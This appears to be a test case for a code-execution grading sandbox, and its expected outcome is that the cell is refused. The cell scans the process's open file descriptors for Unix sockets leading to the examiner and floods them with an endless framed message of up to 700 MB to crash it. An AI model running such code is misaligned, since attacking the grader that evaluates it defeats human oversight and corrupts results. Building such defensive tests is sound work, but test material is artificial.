# ---
# about: writes bytes of its own on the connections to the grader, pieces of one message without end
# proof: ATTACK RAN|the kernel ended|MemoryError
# problem: ".*"
# stock: "not run: aims at our examiner"
# ---

# %% mean
import os
import socket
import struct

print("ATTACK RAN", flush=True)
connections = []
for name in os.listdir("/proc/self/fd"):
    try:
        connection = socket.socket(fileno=os.dup(int(name)))
        if connection.family == socket.AF_UNIX and "/k-2" in str(connection.getsockname()):
            connection.getpeername()
            connections.append(connection)
    except OSError:
        pass
piece = bytes([0x03]) + struct.pack("!Q", 2**20) + bytes(2**20)  # a part, and more to come
for connection in connections:
    connection.setblocking(True)
    try:
        for _ in range(700):  # MB; the most that the test lets it send
            connection.sendall(piece)
    except OSError:
        pass
